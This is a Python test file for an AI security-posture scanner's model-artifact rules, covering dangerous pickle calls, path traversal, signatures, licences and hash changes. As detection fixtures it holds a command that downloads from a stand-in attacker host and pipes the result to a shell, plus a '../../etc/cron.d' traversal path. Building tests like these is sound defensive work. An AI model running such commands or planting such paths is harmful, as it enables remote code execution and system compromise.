"""The model-file rules (data/rules/models.yaml) over hand-built model_artifact assets.

``MODEL_CASES`` (a positive and a negative inventory per rule) is also run by
test_builtin_rules.py, which requires a case for every built-in rule.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from aispm.core.ids import urn
from aispm.core.model import Asset, AssetKind, Finding, Inventory, Location, Severity
from aispm.posture import Policy, evaluate
from aispm.posture.policy import policy_from_dict

REPO = "github.com/acme/models"
SHA_A = "a" * 64
SHA_B = "b" * 64


def issue(
    kind: str, severity: str, detail: str, callable_: str | None = None, **extra: Any
) -> dict[str, Any]:
    return {
        "kind": kind,
        "severity": severity,
        "detail": detail,
        "callable": callable_,
        "member": None,
        "offset": 12,
        **extra,
    }


def scan(
    issues: list[dict[str, Any]] | None = None,
    error: str | None = None,
    members: list[dict[str, Any]] | None = None,
    fmt: str = "pickle",
) -> dict[str, Any]:
    return {
        "path": "m.pkl",
        "format": fmt,
        "size": 10,
        "sha256": SHA_A,
        "verdict": "clean",
        "issues": issues or [],
        "error": error,
        "members": members or [],
        "metadata": {},
    }


def provenance(
    *,
    card: str | None = "README.md",
    license_: str | None = "apache-2.0",
    source_known: bool = True,
    signature: str = "absent",
    detail: str = "",
) -> dict[str, Any]:
    return {
        "license": license_,
        "base_model": [],
        "datasets": [],
        "model_card": card,
        "source_known": source_known,
        "signature": {"status": signature, "path": "model.sig", "kind": "key", "detail": detail},
    }


def artifact(rel: str = "models/m.pkl", **props: Any) -> Asset:
    base: dict[str, Any] = {
        "format": "pickle",
        "size": 10,
        "sha256": SHA_A,
        "scan": scan(),
        "provenance": provenance(),
    }
    base.update(props)
    return Asset(
        urn("code", "model_artifact", REPO, rel), AssetKind.MODEL_ARTIFACT, rel, "local", Location(rel), base
    )


def inv(*assets: Asset) -> Inventory:
    return Inventory.of(assets)


CURL = "os.system('curl -s http://attacker.invalid/x | sh')"
DEFAULT = Policy()
LICENSES = policy_from_dict({"allowed_model_licenses": ["apache-2.0", "MIT"]})

Case = tuple[str, Callable[[], Inventory], Callable[[], Inventory], Policy]
MODEL_CASES: list[Case] = [
    (
        "AISPM-SUP-020",
        lambda: inv(artifact(scan=scan([issue("dangerous_call", "critical", CURL, "os.system")]))),
        lambda: inv(artifact(scan=scan([issue("unknown_call", "medium", "acme.Layer()", "acme.Layer")]))),
        DEFAULT,
    ),
    (
        "AISPM-SUP-021",
        lambda: inv(artifact(scan=scan([issue("unknown_call", "medium", "acme.Layer()", "acme.Layer")]))),
        lambda: inv(artifact(scan=scan([issue("dangerous_call", "critical", CURL, "os.system")]))),
        DEFAULT,
    ),
    (
        "AISPM-SUP-022",
        lambda: inv(artifact(scan=scan(error="truncated: pickle ends before STOP"))),
        lambda: inv(artifact()),
        DEFAULT,
    ),
    (
        "AISPM-SUP-023",
        lambda: inv(artifact(provenance=provenance(signature="invalid", detail="Hash mismatch"))),
        lambda: inv(artifact(provenance=provenance(signature="verified"))),
        DEFAULT,
    ),
    (
        "AISPM-SUP-024",
        lambda: inv(artifact(provenance=provenance(card=None, license_=None, source_known=False))),
        lambda: inv(
            artifact(
                provenance=provenance(card=None, license_=None, source_known=False, signature="verified")
            )
        ),
        DEFAULT,
    ),
    (
        "AISPM-SUP-025",
        lambda: inv(artifact(provenance=provenance(license_="cc-by-nc-4.0"))),
        lambda: inv(artifact(provenance=provenance(license_="mit"))),
        LICENSES,
    ),
    (
        "AISPM-SUP-026",
        lambda: inv(artifact(previous_sha256=SHA_B)),
        lambda: inv(artifact(previous_sha256=SHA_A)),
        DEFAULT,
    ),
]


def findings(inventory: Inventory, rule_id: str, policy: Policy = DEFAULT) -> list[Finding]:
    found, _ = evaluate(inventory, policy)
    return [f for f in found if f.rule_id == rule_id]


def test_dangerous_call_finding_shows_the_exact_call_at_issue_severity() -> None:
    nested = scan(
        members=[
            {
                **scan([issue("dangerous_call", "critical", CURL, "os.system")]),
                "path": "archive/data.pkl",
            },
            {**scan([issue("path_traversal", "high", "../../etc/cron.d/x")]), "path": "evil.tar"},
        ],
        fmt="pytorch",
    )
    hits = findings(inv(artifact("models/classifier.pt", scan=nested)), "AISPM-SUP-020")
    by_kind = {f.evidence["kind"]: f for f in hits}
    assert set(by_kind) == {"dangerous_call", "path_traversal"}
    call = by_kind["dangerous_call"]
    assert call.severity is Severity.CRITICAL
    assert CURL in call.message and "archive/data.pkl" in call.message
    assert call.evidence["callable"] == "os.system"
    assert by_kind["path_traversal"].severity is Severity.HIGH
    assert len({f.fingerprint for f in hits}) == 2


def test_low_unknown_issue_keeps_the_rule_default_and_malformed_kinds_go_to_sup_022() -> None:
    items = [
        issue("unknown_call", "low", "x.y()", "x.y"),
        issue("header_invalid", "medium", "offsets overlap"),
    ]
    inventory = inv(artifact(scan=scan(items)))
    unknown = findings(inventory, "AISPM-SUP-021")
    assert [f.evidence["callable"] for f in unknown] == ["x.y"]
    assert unknown[0].severity is Severity.MEDIUM
    unscannable = findings(inventory, "AISPM-SUP-022")
    assert len(unscannable) == 1 and "offsets overlap" in unscannable[0].message


def test_license_missing_on_a_card_is_low_and_needs_no_policy() -> None:
    hits = findings(inv(artifact(provenance=provenance(license_=None))), "AISPM-SUP-025")
    assert [f.severity for f in hits] == [Severity.LOW]
    # no card at all: unknown origin (SUP-024) covers it, not a licence finding
    assert findings(inv(artifact(provenance=provenance(card=None, license_=None))), "AISPM-SUP-025") == []


def test_license_allow_list_is_case_insensitive() -> None:
    assert (
        findings(inv(artifact(provenance=provenance(license_="Apache-2.0"))), "AISPM-SUP-025", LICENSES) == []
    )


def test_hash_change_needs_both_hashes() -> None:
    assert findings(inv(artifact(previous_sha256=None)), "AISPM-SUP-026") == []
    assert findings(inv(artifact(sha256=None, previous_sha256=SHA_B)), "AISPM-SUP-026") == []


def test_hostile_property_values_do_not_break_rules() -> None:
    weird = artifact(
        scan={"issues": ["x", {"severity": "bogus"}], "members": [None, {"members": "no"}], "error": 5},
        provenance="not a mapping",
        previous_sha256=["list"],
    )
    found, _ = evaluate(inv(weird), DEFAULT)
    assert {f.rule_id for f in found} <= {"AISPM-SUP-001", "AISPM-SUP-022"}
